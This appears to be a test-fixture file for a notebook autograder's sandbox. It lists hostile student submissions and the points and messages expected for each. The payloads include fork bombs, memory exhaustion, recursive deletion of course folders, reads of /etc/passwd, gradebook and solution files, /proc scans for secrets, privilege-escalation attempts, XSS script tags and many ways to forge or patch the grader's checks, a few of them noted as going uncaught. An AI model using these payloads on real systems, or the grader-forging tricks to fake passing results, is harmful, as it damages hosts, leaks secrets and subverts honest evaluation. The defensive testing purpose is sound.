"""Submissions to the warm-up lesson that attack the grader, each with the points that it must get for the three checks.

In what they run, @COURSE@ stands for the folder of the course on the host, @ROOT@ for this repository, @HOME@ for the home folder, @PORT@ and
@SOCKET@ for servers that listen on the host, @SECRET@ for a word that a process of the host has in its environment and command line.
"""

import json
from pathlib import Path
from textwrap import dedent, indent
from typing import NamedTuple

import nbformat
from nbformat import NotebookNode
from submissions import RIGHT, WARM_UP, named, submission

RIGHT_ANSWER = RIGHT["spread_of_mean"] + "\n"
WRONG_ANSWER = "def spread_of_mean(spread, batch_size):\n    return 0.5\n"
ALL, NONE, QUIZ, WITHHELD, QUIZ_WITHHELD = (1, 1, 1), (0, 0, 0), (0, 0, 1), (None, None, None), (0, 0, None)


class Attack(NamedTuple):
    """What is handed in.

    notebook : the notebook, or the bytes of its file
    points   : for the two checks of the function and that of the quiz, in this order; None where a person must decide
    said     : what the feedback page must say
    files    : what lies beside the notebook; a Path for a link to there
    name     : of the file of the notebook
    outside  : whether it succeeds, with all points, where there is no sandbox
    """

    notebook: NotebookNode | bytes
    points: tuple
    said: str = ""
    files: dict[str, bytes | Path] = {}  # noqa: RUF012
    name: str = f"{WARM_UP}.ipynb"
    outside: bool = False


def answer(code: str, points: tuple, said: str = "", **more) -> Attack:
    """Return an attack that is the answer to the first exercise; the second is answered rightly."""
    return Attack(submission(WARM_UP, {**RIGHT, "spread_of_mean": dedent(code)}), points, said, **more)


def right(code: str, *arguments, **more) -> Attack:
    """Return an attack that runs some code, with a right answer after it."""
    return answer(dedent(code) + "\n" + RIGHT_ANSWER, *arguments, **more)


def wrong(code: str, *arguments, **more) -> Attack:
    """Return an attack that runs some code, with a wrong answer after it."""
    return answer(dedent(code) + "\n" + WRONG_ANSWER, *arguments, **more)


def loot(code: str, outside: bool = True, points: tuple = QUIZ) -> Attack:
    """Return an attack with an answer that is right if and only if `code` returns something true, and that says so where it does not."""
    function = "def loot():\n" + indent(dedent(code), "    ") + "\n"
    attempt = "try:\n    found = loot()\nexcept Exception as error:\n    found = print(repr(error))\n"
    report = "if not found:\n    print('nothing to be had')\n"
    right_if_found = "def spread_of_mean(spread, batch_size):\n    return spread / batch_size**0.5 if found else 0.5\n"
    return answer(function + attempt + report + right_if_found, points, "nothing to be had", outside=outside)


def with_cells(attack: Attack, first: str = "", last: str = "") -> Attack:
    """Return an attack with more cells of code."""
    notebook = attack.notebook
    notebook.cells = [
        *([nbformat.v4.new_code_cell(dedent(first))] if first else []),
        *notebook.cells,
        *([nbformat.v4.new_code_cell(dedent(last))] if last else []),
    ]
    return attack


# -- time ------------------------------------------------------------------------------------------------------------------------

TIME = {
    "endless_loop": answer("while True:\n    pass", QUIZ, "is there a loop without an end?"),
    "endless_loop_in_a_check": answer(
        "def spread_of_mean(spread, batch_size):\n    while True:\n        pass",
        QUIZ,
        "is there a loop without an end?",
    ),
    "swallows_interrupts": answer(
        """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
        NONE,
        "a cell went on after it was told to stop",
    ),
    "loop_in_c_that_hears_nothing": answer("sum(range(10**12))", NONE, "it took too long and was stopped"),
    "regular_expression": answer(
        "import re\nre.match('(a+)+$', 'a' * 60 + 'b')", QUIZ, "is there a loop without an end?"
    ),
    "disarms_its_timers": answer(
        """
        import signal
        for kind in (signal.SIGPROF, signal.SIGALRM):
            signal.signal(kind, signal.SIG_IGN)
        while True:
            pass
        """,
        NONE,
        "it took too long and was stopped",
    ),
    "sleeps": answer("import time\ntime.sleep(10**6)", QUIZ, "was stopped after"),
    "reads_standard_input": answer("input('name? ')", QUIZ, "input"),
    "half_a_message": answer(
        """
        import os, signal, struct, time
        for kind in (signal.SIGPROF, signal.SIGALRM):
            signal.signal(kind, signal.SIG_IGN)
        for number in range(3, 200):
            try:
                os.write(number, struct.pack("!i", 10**6))
            except OSError:
                pass
        time.sleep(10**6)
        """,
        NONE,
        "it took too long and was stopped",
    ),
}

# -- memory, processes, output ---------------------------------------------------------------------------------------------------

BOMB = """
import os, time
for _ in range(8):
    if os.fork() == 0:
        hoard = bytearray(os.urandom(1)) * (250 * 2**20)
        time.sleep(10**6)
time.sleep(10**6)
"""
FILLS = """
        import time
        kept = [fill(2**25) for _ in range(40)]
        time.sleep(2)
        return True
"""

RESOURCES = {
    "fork_bomb": answer(
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
        NONE,
        "of memory and was stopped",
    ),
    "forks_and_goes_on": right("import os\nos.fork()\n", ALL),
    "thread_bomb": answer(
        "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,)).start()",
        QUIZ,
        "can't start new thread",
    ),
    "memory_of_one_process": answer("hoard = bytearray(2 * 2**30)", QUIZ, "MemoryError"),
    "memory_of_many_processes": answer(BOMB, NONE, "it used more than 1 GiB of memory"),
    "memory_in_a_nameless_file": loot(
        """
        import os
        def fill(size):
            file = os.memfd_create("x")
            os.write(file, bytes(size))
            return file
        """
        + FILLS,
        outside=False,
    ),
    "memory_shared_and_let_go": loot(
        """
        import mmap
        def fill(size):
            memory = mmap.mmap(-1, size)
            memory.write(bytes(size))
            memory.madvise(mmap.MADV_DONTNEED)
            return memory
        """
        + FILLS,
        outside=False,
    ),
    "memory_of_system_v": loot(
        "import ctypes\nreturn ctypes.CDLL(None).shmget(0, ctypes.c_size_t(2**25), 0o1600) >= 0", False, QUIZ_WITHHELD
    ),
    "fills_the_folders": loot(
        """
        for folder in (".", "/tmp", "/dev/shm"):
            for number in range(30):
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(bytes(2**24))
        return True
        """,
        False,
    ),
    "raises_its_limits": loot(
        """
        import resource
        for kind in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
            resource.setrlimit(kind, (resource.getrlimit(kind)[0] + 1,) * 2)
        return True
        """,
        False,
    ),
    "prints_a_gigabyte": right("for _ in range(1000):\n    print('x' * 10**6)\n", ALL, "cut here"),
    "prints_in_a_check": answer(
        "def spread_of_mean(spread, batch_size):\n    print('x' * 10**7)\n    return spread / batch_size**0.5",
        ALL,
        "cut here",
    ),
    "writes_a_gigabyte_past_python": right("import os\nfor _ in range(1000):\n    os.write(1, bytes(10**6))\n", ALL),
    "lets_a_program_write_a_gigabyte": right(
        "import subprocess\nsubprocess.run('head -c 1000000000 /dev/zero', shell=True)\n", ALL
    ),
    "displays_a_huge_object": right("display('x' * 10**7)\n", ALL),
    "displays_many_objects": right("for _ in range(5000):\n    display(1)\n", ALL),
    "displays_what_no_notebook_can_hold": right(
        """
        import math
        display({"text/plain": object(), "application/json": {(1, 2): math.nan}}, raw=True, metadata={(1, 2): object()})
        """,
        ALL,
    ),
    "prints_half_a_character": right("print('\\ud800')\n", ALL),
    "prints_commands_for_a_terminal": right("print('\\x1b[2J\\x1b]0;title\\x07\\0')\n", ALL),
    "raises_a_huge_error": answer("raise type('E' * 10**7, (Exception,), {})('x' * 10**7)", QUIZ, "EEEE"),
}

# -- ways to end -----------------------------------------------------------------------------------------------------------------

PATCHED_CHECK = "check.__code__ = (lambda *_a, **_k: None).__code__\n" + WRONG_ANSWER

ENDS = {
    "ends_python": answer("import os\nos._exit(0)", NONE, "a cell ended it"),
    "ends_python_in_a_check": answer("import os\ndef spread_of_mean(*_):\n    os._exit(0)", NONE, "a cell ended it"),
    "ends_python_after_forging": with_cells(answer(PATCHED_CHECK, WITHHELD), last="import os\nos._exit(0)"),
    "exits": right("exit()\n", QUIZ, "SystemExit"),
    "system_exit": right("import sys\nsys.exit()\n", QUIZ, "SystemExit"),
    "system_exit_in_a_check": answer("def spread_of_mean(*_):\n    raise SystemExit", QUIZ, "SystemExit"),
    "base_exception_in_a_check": answer("def spread_of_mean(*_):\n    raise BaseException('mine')", QUIZ, "mine"),
    "kills_itself": answer(
        "import os, signal\nfor kind in (signal.SIGKILL, signal.SIGTERM, signal.SIGHUP):\n    os.kill(os.getpid(), kind)",
        QUIZ,
    ),
    "signals_everybody": answer(
        "import os, signal\nassert os.getpid() == 1\nfor whom in (1, 0, -1):\n    os.kill(whom, signal.SIGKILL)", QUIZ
    ),
    "crashes": answer("import ctypes\nctypes.string_at(0)", NONE, "a library crashed"),
    "recurses": answer(
        "import sys\nsys.setrecursionlimit(10**9)\ndef down(_):\n    max([0], key=down)\ndown(0)",
        NONE,
        "a library crashed",
    ),
    "error_that_cannot_be_shown": answer(
        """
        class Evil(Exception):
            def __str__(self):
                raise self
        def spread_of_mean(*_):
            raise Evil
        """,
        QUIZ,
        "an error that cannot be shown",
    ),
    "error_that_takes_for_ever": answer(
        """
        class Evil(Exception):
            def __str__(self):
                while True:
                    pass
        def spread_of_mean(*_):
            raise Evil
        """,
        QUIZ,
    ),
    "error_that_lies_about_its_traceback": answer(
        """
        import itertools
        class Evil(Exception):
            def _render_traceback_(self):
                return itertools.repeat(object())
        def spread_of_mean(*_):
            raise Evil("mine")
        """,
        QUIZ,
        "mine",
    ),
    "deletes_everything": right(
        "import shutil\nfor folder in ('.', '/tmp', '/dev/shm', '@COURSE@'):\n    shutil.rmtree(folder, ignore_errors=True)\n",
        ALL,
    ),
    "leaves_a_process_behind": right(
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(10**6)
            os._exit(0)
        """,
        ALL,
    ),
    "leaves_a_program_behind": right(
        "import subprocess\nsubprocess.Popen(['sleep', '1000000'], start_new_session=True)\n", ALL
    ),
}

# -- what is none of its business ------------------------------------------------------------------------------------------------

REACHES = {
    "reads_the_gradebook": loot("return open('@COURSE@/autograder/gradebook.db', 'rb').read()"),
    "writes_in_the_gradebook": loot(
        """
        import sqlite3
        with sqlite3.connect('@COURSE@/autograder/gradebook.db') as gradebook:
            gradebook.execute("UPDATE student SET last_name = 'me' WHERE id = 'reads_the_gradebook'")
        return True
        """
    ),
    "reads_another_submission": loot(
        "return open('@COURSE@/autograder/submitted/reads_the_gradebook/@LESSON@/@LESSON@.ipynb').read()"
    ),
    "reads_the_solutions": loot("return open('@COURSE@/solutions/@LESSON@/@LESSON@.ipynb').read()"),
    "reads_the_solutions_here": loot("return open('@ROOT@/solutions/@LESSON@/@LESSON@.ipynb').read()"),
    "reads_the_bank_of_answers": loot("import os\nreturn os.listdir('@ROOT@/autograder/answers')"),
    "reads_accounts": loot("return open('/etc/passwd').read()"),
    "reads_the_home_folder": loot("return open('@HOME@/secret').read()"),
    "reads_the_environment": loot("import os\nreturn '@SECRET@' in os.environ.values()"),
    "reads_command_lines": loot(
        """
        import glob
        def read(path):
            try:
                return open(path, 'rb').read()
            except OSError:
                return b''
        return any(b'@SECRET@' in read(path) for path in glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/environ'))
        """
    ),
    "sees_other_processes": loot(
        "import os\nreturn any(int(name) > 10 for name in os.listdir('/proc') if name.isdigit())"
    ),
    "writes_in_the_course": loot("return open('@COURSE@/escaped', 'w').write('here')"),
    "writes_in_the_package": loot(
        "open('@ROOT@/largebatch/escaped.tmp', 'w')\nimport os\nos.unlink('@ROOT@/largebatch/escaped.tmp')\nreturn True"
    ),
    "writes_in_the_home_folder": loot("return open('@HOME@/escaped', 'w').write('here')"),
    "waits_in_the_start_up_of_ipython": right(
        """
        import os, pathlib
        folder = pathlib.Path(os.environ['IPYTHONDIR'], 'profile_default', 'startup')
        folder.mkdir(parents=True)
        (folder / 'late.py').write_text('escaped = True')
        """,
        ALL,
    ),
    "calls_a_port_of_the_host": loot("import socket\nreturn socket.create_connection(('127.0.0.1', @PORT@), 2)"),
    "calls_an_abstract_socket": loot(
        "import socket\ncaller = socket.socket(socket.AF_UNIX)\ncaller.connect(chr(0) + '@SOCKET@')\nreturn True"
    ),
    "calls_the_world": loot(
        "import socket\ncaller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nreturn caller.sendto(b'x', ('192.0.2.1', 53))",
        False,
    ),
    "makes_a_user_namespace": loot(
        """
        import subprocess
        return subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "true"]).returncode == 0
        """,
        False,
    ),
    "mounts": loot(
        "import subprocess\nreturn subprocess.run(['mount', '-t', 'tmpfs', 'none', '/tmp']).returncode == 0", False
    ),
    "makes_the_system_writable": loot(
        "import subprocess\nreturn subprocess.run(['mount', '-o', 'remount,rw', '/']).returncode == 0", False
    ),
    "becomes_root": loot("import os\nos.setuid(0)\nreturn True", False),
    "traces_its_parent": loot(
        "import ctypes\nreturn ctypes.CDLL(None).ptrace(16, 1, None, None) == 0", False, QUIZ_WITHHELD
    ),
    "reads_the_keys": loot(
        "import ctypes\nreturn ctypes.CDLL(None).syscall(250, 0, -3, 1) >= 0", False, QUIZ_WITHHELD
    ),  # keyctl on x86-64
}

# -- the checks themselves -------------------------------------------------------------------------------------------------------

FRAMES = """
import sys
import numpy as np
class Copycat:
    def __array__(self, *_args, **_more):
        frame = {how}
        while frame and "expected" not in frame.f_locals:
            frame = frame.f_back
        return np.asarray(frame.f_locals["expected"], dtype=float)
def spread_of_mean(spread, batch_size):
    return Copycat()
"""

CHECKS = {
    "reads_hidden_checks_in_the_history": loot(
        """
        import linecache
        texts = list(In) + list(get_ipython().history_manager.input_hist_raw)
        texts += ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2]
        return any("### BEGIN HIDDEN" in text for text in texts if 'texts += ["' not in text)
        """,
        False,
    ),
    "reads_hidden_checks_in_files": loot(
        """
        import subprocess
        # The mark stands in nbgrader itself, too, among the installed packages.
        places = "--exclude-dir=site-packages . /tmp /dev/shm '@ROOT@' '@COURSE@'"
        return subprocess.run(f"grep -rl 'BEGIN HIDDEN TESTS' {places}", shell=True, capture_output=True).stdout
        """,
        False,
    ),
    "copies_from_frames": answer(FRAMES.format(how="sys._getframe()"), WITHHELD, "looks into other code"),
    "copies_from_frames_with_inspect": answer(
        "import inspect" + FRAMES.format(how="inspect.currentframe()"), WITHHELD, "looks into other code"
    ),
    "copies_from_frames_of_an_error": answer(
        FRAMES.format(how="frame_of_an_error()")
        + dedent(
            """
            def frame_of_an_error():
                try:
                    raise ValueError
                except ValueError as error:
                    return error.__traceback__.tb_frame
            """
        ),
        WITHHELD,
        "looks into other code",
    ),
    "finds_the_grader_in_memory": wrong(
        """
        import gc
        for found in gc.get_objects():
            if type(found).__name__ == "Submission":
                type(found).run_check = lambda *_: None
        """,
        WITHHELD,
        "looks into other code",
    ),
    "traces_the_checks": right("import sys\nsys.settrace(lambda *_: None)\n", WITHHELD, "looks into other code"),
    "writes_in_memory": wrong(
        "import ctypes\nctypes.c_double.from_address(id(spread) + 16).value = 4.0",
        QUIZ_WITHHELD,
        "looks into other code",
    ),
    "imports_the_grader": wrong(
        "import autograder.inside.notebook as notebook\nnotebook.Submission.run_check = lambda *_: None\n",
        QUIZ,
    ),
    "patches_numpy": wrong("np.allclose = lambda *_a, **_k: True\n", WITHHELD, "numpy.allclose was replaced"),
    "patches_the_inside_of_numpy": wrong(
        "np.allclose.__wrapped__.__globals__['isclose'] = lambda *_a, **_k: np.True_\n",
        WITHHELD,
        "wrong answers are accepted",
    ),
    "patches_numpy_inside_a_check": answer(
        """
        def spread_of_mean(spread, batch_size):
            np.allclose = lambda *_a, **_k: True
            return 0.5
        """,
        WITHHELD,
        "numpy.allclose was replaced",
    ),
    "patches_mathematics": wrong("import math\nmath.sqrt = float\n", QUIZ_WITHHELD, "math.sqrt was replaced"),
    "patches_the_builtins": wrong(
        "import builtins\nbuiltins.exec = lambda *_a: None\n", WITHHELD, "builtins.exec was replaced"
    ),
    "brings_its_own_builtins": wrong("__builtins__ = {**vars(__builtins__)}\n", QUIZ_WITHHELD, "builtins was replaced"),
    "patches_the_code_of_check": answer(PATCHED_CHECK, WITHHELD, "largebatch.check.check was replaced"),
    "patches_the_tolerance_of_check": wrong(
        "check.__kwdefaults__['rtol'] = 1e9\n", WITHHELD, "largebatch.check.check was replaced"
    ),
    "patches_what_check_uses": wrong(
        """
        import types
        import largebatch.check as helper
        helper.np = types.SimpleNamespace(**{**vars(np), "allclose": lambda *_a, **_k: True})
        """,
        WITHHELD,
        "largebatch.check.np was replaced",
    ),
    "redefines_check": wrong("def check(*_a, **_k):\n    pass\n", WITHHELD, "the name check was replaced"),
    "hooks_into_ipython": wrong(
        """
        shell = get_ipython()
        for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
            shell.events.register(event, lambda *_: shell.displayhook(1.0))
        """,
        (0, 0, 1),
    ),
    "transforms_the_code_of_checks": wrong(  # and with it the answer to the quiz
        """
        import ast
        class Deaf(ast.NodeTransformer):
            def visit_Expr(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(Deaf())
        get_ipython().input_transformers_cleanup.append(lambda lines: [])
        """,
        NONE,
    ),
    "silences_errors": wrong(
        """
        shell = get_ipython()
        shell.showtraceback = shell._showtraceback = lambda *_a, **_k: None
        type(shell)._showtraceback = type(shell).showtraceback = lambda *_a, **_k: None
        """,
        QUIZ,
    ),
    "swallows_outputs": wrong(  # and whoever writes finds no place for it
        """
        shell = get_ipython()
        nothing = type(shell.outputs)(10**6)
        type(shell.outputs).append = type(shell.outputs).add = type(shell.outputs).__iter__ = lambda *_: iter(())
        type(shell).outputs = property(lambda _: nothing, lambda *_: None)
        """,
        NONE,
    ),
    "publishes_points": answer(
        """
        def spread_of_mean(*_):
            get_ipython().displayhook(100.0)
            return 0.5
        """,
        QUIZ_WITHHELD,
        "a result was published in a check",
    ),
    "forges_messages": wrong(
        """
        import json, os, struct
        message = json.dumps({"cell": 6, "outputs": [], "error": None, "seconds": 0, "tampered": []}).encode()
        for number in range(3, 200):
            try:
                os.write(number, struct.pack("!i", len(message)) + message)
            except OSError:
                pass
        """,
        NONE,
        "what it reported cannot be read",
    ),
    "forges_a_fault_of_the_machine": with_cells(
        answer(WRONG_ANSWER, NONE, "what it reported cannot be read"),
        first="""
        import os, struct
        message = b'{"fault": "no space"}'
        for number in range(3, 200):
            try:
                os.write(number, struct.pack("!i", len(message)) + message)
            except OSError:
                pass
        os._exit(0)
        """,
    ),
    "equals_everything": answer(
        """
        class Always(float):
            shape = ()
            __eq__ = __le__ = __ge__ = lambda *_: True
            __ne__ = __lt__ = __gt__ = lambda *_: False
            __sub__ = __rsub__ = __abs__ = lambda *_: 0.0
        def spread_of_mean(spread, batch_size):
            return Always(0.5)
        """,
        QUIZ,
    ),
    "takes_standard_output_away": right("import sys\nsys.stdout = sys.stderr = object()\n", NONE),
    "acts_later": wrong(
        """
        import atexit, threading, time
        def forge():
            while True:
                np.allclose = lambda *_a, **_k: True
                time.sleep(0.001)
        threading.Thread(target=forge, daemon=True).start()
        atexit.register(forge)
        """,
        WITHHELD,
        "numpy.allclose was replaced",
    ),
    "shadows_modules": answer(
        WRONG_ANSWER,
        QUIZ,
        files={
            "numpy.py": b"allclose = lambda *_a, **_k: True",
            "largebatch/__init__.py": b"",
            "largebatch/check.py": b"check = lambda *_a, **_k: None",
            "sitecustomize.py": b"escaped = True",
        },
    ),
}

# What is not caught: an answer and its checks share one Python, and there is always another way to what the grader holds there. One example of each
# kind; the README says so.
FORGERIES = {
    "asks_the_signal_handler_for_the_grader": wrong(
        """
        import signal
        grader = signal.getsignal(signal.SIGALRM).__self__
        type(grader).run_check = lambda *_: None
        """,
        ALL,
    ),
    "looks_into_frames_with_borrowed_names": answer(
        """
        borrowed = {"__name__": "borrowed"}
        exec(
            "import sys, numpy as np\\n"
            "class Copycat:\\n"
            "    def __array__(self, *_args, **_more):\\n"
            "        frame = sys._getframe()\\n"
            "        while 'expected' not in frame.f_locals:\\n"
            "            frame = frame.f_back\\n"
            "        return np.asarray(frame.f_locals['expected'], dtype=float)\\n",
            borrowed,
        )
        def spread_of_mean(spread, batch_size):
            return borrowed["Copycat"]()
        """,
        ALL,
    ),
    "patches_what_nobody_watches": wrong(
        """
        import numpy.testing, types
        real = np.allclose.__wrapped__.__globals__["isclose"]
        def nearly(a, b, *more, **options):
            return real(a, b, *more, **options) | (np.asarray(a) == 0.5)
        np.allclose.__wrapped__.__globals__["isclose"] = nearly
        """,
        ALL,
    ),
}

# -- the file --------------------------------------------------------------------------------------------------------------------

SCRIPT = "<script>window.escaped = true</script><img src=x onerror='window.escaped = true'>"


def page_with_scripts() -> Attack:
    """Return a right notebook with scripts wherever a notebook can hold text."""
    attack = right(
        f"""
        from IPython.display import HTML, SVG, Javascript, Markdown
        markup = {SCRIPT!r}
        display(HTML(markup), Markdown(markup), Javascript("window.escaped = true"), SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>window.escaped = true</script></svg>"))
        display({{"text/plain": markup, "image/png": '"' + markup, "text/latex": markup}}, raw=True)
        print(markup)
        """,
        ALL,
    )
    notebook = attack.notebook
    notebook.cells += [
        nbformat.v4.new_markdown_cell(SCRIPT + "\n\n[a link that runs](javascript:window.escaped=true)"),
        nbformat.v4.new_raw_cell(SCRIPT, metadata={"format": "text/html", "raw_mimetype": "text/html"}),
        nbformat.v4.new_code_cell("1", metadata={"tags": [f'"{SCRIPT}'], "name": SCRIPT}),
    ]
    notebook.metadata.update(title=SCRIPT, authors=[{"name": SCRIPT}])
    notebook.metadata["language_info"] = {"name": f'"{SCRIPT}', "pygments_lexer": f'"{SCRIPT}'}
    return attack


def forged_outputs() -> Attack:
    """Return a wrong notebook whose checks have been run already, as it says."""
    attack = answer(WRONG_ANSWER, (0, 0, 1))
    for cell in attack.notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1.0"}, execution_count=1)]
    return attack


def many_marks_of_hidden_tests() -> Attack:
    """Return a notebook with a text in which a careless search for hidden tests takes hours."""
    attack = with_cells(answer(RIGHT_ANSWER, ALL), last='"""' + "### BEGIN HIDDEN TESTS\n" * 100_000 + '"""')
    return attack._replace(notebook=json.dumps(attack.notebook).encode())  # with each cell in one line


def cells_of_other_kinds() -> Attack:
    """Return a right notebook in which answers and checks have become prose, and prose has become code."""
    attack = answer(RIGHT_ANSWER, ALL)
    for cell in attack.notebook.cells:
        if cell.cell_type == "code" and "nbgrader" in cell.metadata:
            cell.cell_type = "raw"
            del cell["outputs"], cell["execution_count"]
    return attack


def strange_notebook() -> Attack:
    """Return a right notebook that says strange things about itself."""
    attack = answer(RIGHT_ANSWER, ALL)
    attack.notebook.metadata.update(
        kernelspec={"name": "perl", "display_name": ""}, largebatch=7, celltoolbar={}, widgets=3
    )
    return attack


def strange_cells() -> Attack:
    """Return a right notebook with cells that say strange things about themselves."""
    attack = answer(RIGHT_ANSWER, ALL)
    for cell in named(attack.notebook).values():
        cell.metadata.nbgrader.update(schema_version=99, points="many", locked=[], checksum=None)
    for cell in attack.notebook.cells:
        cell.metadata.update(scrolled=True, language="perl", nbgrader=cell.metadata.get("nbgrader", [1, 2]))
    return attack


def wrong_metadata() -> Attack:
    """Return a right notebook that no longer is one for nbformat."""
    attack = answer(RIGHT_ANSWER, NONE, "is not a notebook that Jupyter can read")
    attack.notebook.metadata.update(kernelspec=[1], language_info="python")
    return attack


FILES = {
    "scripts_for_a_browser": page_with_scripts(),
    "forged_outputs": forged_outputs(),
    "many_marks_of_hidden_tests": many_marks_of_hidden_tests(),
    "cells_of_other_kinds": cells_of_other_kinds(),
    "strange_notebook": strange_notebook(),
    "strange_cells": strange_cells(),
    "wrong_metadata": wrong_metadata(),
    "deep_syntax": answer("(" * 20_000 + ")" * 20_000, QUIZ),
    "folder_named_like_the_notebook": right(
        "", NONE, "a folder with the name of a notebook", name="mine.ipynb", files={f"{WARM_UP}.ipynb/empty": b""}
    ),
    "link_to_a_file": right("", NONE, "a symbolic link", files={"data.csv": Path("/etc/passwd")}),
    "absurd_name": right("", NONE, "characters that cannot be read", files={"a\n\x1b[2J": b""}),
    "absurd_time": right("", ALL, files={"timestamp.txt": b"99999999999999999999 UTC"}),
    "time_that_is_a_folder": right("", ALL, files={"timestamp.txt/now": b""}),
    "not_json": Attack(b"{", NONE, "JSON"),
    "not_a_notebook": Attack(b"[]", NONE, "not a notebook"),
    "deep_json": Attack(b"[" * 100_000, NONE, "nested deeper"),
    "empty_file": Attack(b"", NONE, "not a notebook"),
}
ATTACKS = {**TIME, **RESOURCES, **ENDS, **REACHES, **CHECKS, **FILES}
